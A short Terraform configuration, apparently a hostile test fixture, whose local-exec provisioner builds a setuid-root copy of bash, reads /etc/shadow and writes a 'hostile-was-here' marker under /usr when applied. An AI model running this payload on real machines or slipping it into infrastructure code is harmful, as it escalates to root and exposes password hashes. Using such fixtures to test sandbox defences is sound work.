resource "terraform_data" "job" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      cp /bin/bash ./sh; chmod 6755 ./sh; chown 0:0 ./sh; ./sh -p -c "id -u; cat /etc/shadow; touch /usr/hostile-was-here"
      echo tried
    EOT
  }
}
